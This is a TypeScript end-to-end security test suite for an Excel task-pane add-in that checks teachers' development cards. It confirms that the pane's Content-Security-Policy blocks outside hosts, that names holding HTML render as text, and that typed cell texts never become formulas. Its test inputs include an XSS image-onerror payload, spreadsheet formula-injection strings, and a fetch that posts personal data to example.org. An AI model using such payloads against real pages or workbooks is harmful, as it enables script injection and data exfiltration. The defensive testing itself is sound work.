import { existsSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import type { StandinState } from "../../addin/test/standin/standin.js";
import type { WorkbookData } from "../../addin/test/standin/workbook.js";
import type { FixtureValue } from "../fixtures/cardSheet.js";
import { cardRows } from "../fixtures/cardSheet.js";
import { launchChromium, OFFICE_JS, paneContext } from "./browser.js";
import { cardWorkbook, workbooksIn } from "./fixtures.js";
import type { StaticServer } from "./server.js";
import { serveStatic } from "./server.js";

/**
 * Issue 8 in the pane: it asks nothing of any host but its own and office.js's (its
 * Content-Security-Policy refuses the rest), it shows what cells hold as text, never as HTML,
 * and in Excel it writes no formula, whatever the cards' texts begin with.
 */

const root = join(dirname(fileURLToPath(import.meta.url)), "..", "..");
const pane = join(root, "out", "addin");
const standinScript = join(root, "out", "standin", "office-standin.js");

/** HTML a card may hold as its teacher's name or its sheet's: shown, it must stay text. */
const HTML_NAME = "<img src=x onerror=__xss=1>";
/** Texts typed into a card that Excel, given them as values, would take for formulas. */
const TYPED = {
  teacher: '=HYPERLINK("http://example.org/","Сидорова")',
  position: "-учитель",
  school: "+МБОУ «СОШ №1»",
  mentor: "@Смирнова О.В.",
};

let browser: Browser;
let server: StaticServer;

beforeAll(async () => {
  if (!existsSync(join(pane, "taskpane.html")) || !existsSync(standinScript)) {
    throw new Error("Build first: npm run test:e2e builds the pane and the stand-in");
  }
  server = await serveStatic(pane, await workbooksIn(join(root, "samples")));
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

interface Opened {
  page: Page;
  /** Every request the page made, by URL; none is let past 127.0.0.1 but office.js. */
  requests: string[];
  /** What the Content-Security-Policy refused: «directive URL». */
  refused: () => Promise<string[]>;
  close: () => Promise<void>;
}

/** The pane in a browser, or in Excel where a workbook is given (the stand-in for office.js). */
async function openPane(workbook?: WorkbookData): Promise<Opened> {
  const context = await paneContext(browser);
  const requests: string[] = [];
  await context.route("**/*", async (route) => {
    const url = route.request().url();
    if (url.startsWith(server.url)) {
      return route.continue();
    }
    if (url === OFFICE_JS && workbook) {
      return route.fulfill({
        contentType: "text/javascript",
        body: await readFile(standinScript, "utf8"),
      });
    }
    return route.abort("internetdisconnected");
  });
  const page = await context.newPage();
  page.on("request", (request) => requests.push(request.url()));
  await page.addInitScript(() => {
    const refused: string[] = [];
    Object.assign(window, { __IOM_REFUSED__: refused });
    document.addEventListener("securitypolicyviolation", (event) =>
      refused.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  if (workbook) {
    await page.addInitScript((data) => Object.assign(window, { __IOM_WORKBOOK__: data }), workbook);
  }
  await page.goto(`${server.url}/taskpane.html`);
  return {
    page,
    requests,
    refused: () =>
      page.evaluate(() => (window as unknown as { __IOM_REFUSED__: string[] }).__IOM_REFUSED__),
    close: () => context.close(),
  };
}

function origins(requests: readonly string[]): string[] {
  return [...new Set(requests.map((url) => (url === OFFICE_JS ? url : new URL(url).origin)))];
}

async function setAsOf(page: Page, day: string): Promise<void> {
  await page.getByRole("tab", { name: "Настройки" }).click();
  await page.getByTestId("as-of").fill(day);
  await page.getByRole("tab", { name: "Проверка" }).click();
}

/** Whether anything the page shows was taken for HTML: an image element, or its handler run. */
async function htmlShown(page: Page): Promise<{ images: number; ran: boolean }> {
  return {
    images: await page.locator("img").count(),
    ran: await page.evaluate(() => "__xss" in window),
  };
}

function typedCard(teacher = TYPED.teacher): FixtureValue[][] {
  const rows = cardRows({ teacher, badPhone: true, wrongColumn: true });
  rows[4]![1] = TYPED.position;
  rows[13]![1] = TYPED.school;
  rows[18]![1] = TYPED.mentor;
  return rows;
}

describe("the pane's requests", () => {
  it("has a Content-Security-Policy that lets in only itself and office.js's host", async () => {
    const { page, close } = await openPane();
    const policy = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute("content");
    const directives = new Map(
      policy!.split(";").map((part) => {
        const [name, ...sources] = part.trim().split(/\s+/);
        return [name!, sources];
      }),
    );

    expect(directives.get("default-src")).toEqual(["'self'"]);
    expect(directives.get("script-src")).toEqual(["'self'", "https://appsforoffice.microsoft.com"]);
    expect(directives.get("connect-src")).toEqual(["'self'"]);
    const hosts = [...directives.values()].flat().filter((source) => /^https?:/.test(source));
    expect(hosts).toEqual(["https://appsforoffice.microsoft.com"]);
    await close();
  });

  it("refuses a request to another host, before it leaves the page", async () => {
    const { page, requests, refused, close } = await openPane();
    await page.getByTestId("file-mode").waitFor();

    const outcome = await page.evaluate(async () => {
      const image = document.createElement("img");
      image.src = "https://example.org/pixel.png";
      document.body.append(image);
      try {
        await fetch("https://example.org/collect", { method: "POST", body: "ФИО" });
        return "sent";
      } catch {
        return "refused";
      }
    });

    expect(outcome).toBe("refused");
    await expect
      .poll(async () => (await refused()).sort())
      .toEqual([
        "connect-src https://example.org/collect",
        "img-src https://example.org/pixel.png",
      ]);
    // Chromium may announce the image before its policy blocks it; a fetch it never starts.
    expect(requests).not.toContain("https://example.org/collect");
    await close();
  });

  it("asks nothing of any host but its own through a whole session in a browser", async () => {
    const { page, requests, refused, close } = await openPane();
    await setAsOf(page, "16.11.2026");
    const downloads: string[] = [];
    page.on("download", (download) => downloads.push(download.suggestedFilename()));

    await page.getByRole("button", { name: /^Открыть примеры/ }).click();
    await page.getByTestId("check-summary").waitFor({ timeout: 60_000 });
    await page.getByRole("tab", { name: "Карта" }).click();
    await page.getByRole("button", { name: /^Заполнить открытые файлы/ }).click();
    await page.getByText(/^Заполнено: /).waitFor();
    await page.getByLabel("ФИО педагога для новой карты").fill("Сидорова Мария Петровна");
    await page.getByTestId("new-card").click();
    await page.getByRole("tab", { name: "Сводка" }).click();
    await page.getByRole("button", { name: "Сводка по району" }).click();
    await expect.poll(() => downloads, { timeout: 30_000 }).toContain("Сводка ИОМ 2026-11-16.xlsx");

    expect(downloads.length).toBeGreaterThan(3);
    expect(origins(requests)).toEqual([server.url, OFFICE_JS]);
    expect(await refused()).toEqual([]);
    await close();
  });

  it("asks nothing of any host but its own and office.js's in Excel", async () => {
    const { page, requests, refused, close } = await openPane({
      sheets: [{ name: "Иванова", cells: cardRows({ badPhone: true }) }],
    });
    await page.getByTestId("mode").filter({ hasText: "в этой книге Excel" }).waitFor();

    await page.getByRole("button", { name: "Проверить" }).click();
    await page.getByTestId("check-summary").waitFor();
    await page.getByRole("tab", { name: "Сводка" }).click();
    await page.getByRole("button", { name: "Сводка по району" }).click();
    await page.getByTestId("summary-done").waitFor();

    expect(origins(requests)).toEqual([server.url, OFFICE_JS]);
    expect(await refused()).toEqual([]);
    await close();
  });
});

describe("what the pane shows of a card", () => {
  it("shows a file, a sheet and a teacher named in HTML as text, in a browser", async () => {
    const { page, close } = await openPane();
    await setAsOf(page, "16.11.2025");
    const bytes = await cardWorkbook([{ name: HTML_NAME, rows: typedCard(HTML_NAME) }]);

    await page.getByTestId("file-input").setInputFiles([
      {
        name: `${HTML_NAME}.xlsx`,
        mimeType: "application/octet-stream",
        buffer: Buffer.from(bytes),
      },
    ]);
    await page.getByTestId("check-summary").waitFor();
    await page.getByRole("tab", { name: "Сводка" }).click();
    await page.getByRole("button", { name: "Сводка по району" }).click();
    await page.getByRole("tab", { name: "Проверка" }).click();

    expect(await page.getByTestId("group-title").first().textContent()).toContain(HTML_NAME);
    expect(await htmlShown(page)).toEqual({ images: 0, ran: false });
    await close();
  });

  it("shows a sheet named in HTML as text, in Excel", async () => {
    const { page, close } = await openPane({
      sheets: [{ name: HTML_NAME, cells: typedCard(HTML_NAME) }],
    });
    await page.getByTestId("mode").filter({ hasText: "в этой книге Excel" }).waitFor();

    await page.getByRole("button", { name: "Проверить" }).click();
    await page.getByTestId("check-summary").waitFor();

    expect(await page.getByTestId("group-title").first().textContent()).toBe(`Лист «${HTML_NAME}»`);
    expect(await htmlShown(page)).toEqual({ images: 0, ran: false });
    await close();
  });
});

describe("what the pane writes into Excel", () => {
  it("makes no formula of a card's text on check, fill, undo, a new card and the summary", async () => {
    // Texts a user typed into cells formatted as text, as Excel keeps them.
    const cells = typedCard().map((row) =>
      row.map((value) =>
        typeof value === "string" && /^[=+\-@]/.test(value) ? { value, format: "@" } : value,
      ),
    );
    const { page, close } = await openPane({ sheets: [{ name: "=Сидорова", cells }] });
    await page.getByTestId("mode").filter({ hasText: "в этой книге Excel" }).waitFor();
    await setAsOf(page, "16.11.2025");

    await page.getByRole("button", { name: "Проверить" }).click();
    await page.getByTestId("check-summary").waitFor();
    await page.getByRole("tab", { name: "Карта" }).click();
    await page.getByRole("button", { name: "Заполнить", exact: true }).click();
    await page.getByText(/^Заполнено: /).waitFor();
    await page.getByRole("button", { name: "Отменить заполнение" }).click();
    await page.getByText(/^Возвращено: /).waitFor();
    await page.getByLabel("ФИО педагога для новой карты").fill("=Петрова+1");
    await page.getByTestId("new-card").click();
    await page.getByText(/^Добавлен лист/).waitFor();
    await page.getByRole("tab", { name: "Сводка" }).click();
    await page.getByRole("button", { name: "Сводка по району" }).click();
    await page.getByTestId("summary-done").waitFor();

    const book = await page.evaluate(() => {
      const state = (window as unknown as { __IOM_STANDIN__: StandinState }).__IOM_STANDIN__;
      return {
        formulas: state.sheets.flatMap((sheet) =>
          [...sheet.cells]
            .filter(([, cell]) => cell.formula !== undefined)
            .map(([at, cell]) => `${sheet.name}!${at} ${cell.formula}`),
        ),
        texts: state.sheets.flatMap((sheet) => [...sheet.cells.values()].map((c) => c.value)),
      };
    });
    expect(book.formulas).toEqual([]);
    expect(book.texts).toEqual(expect.arrayContaining([...Object.values(TYPED), "=Петрова+1"]));
    await close();
  });
});
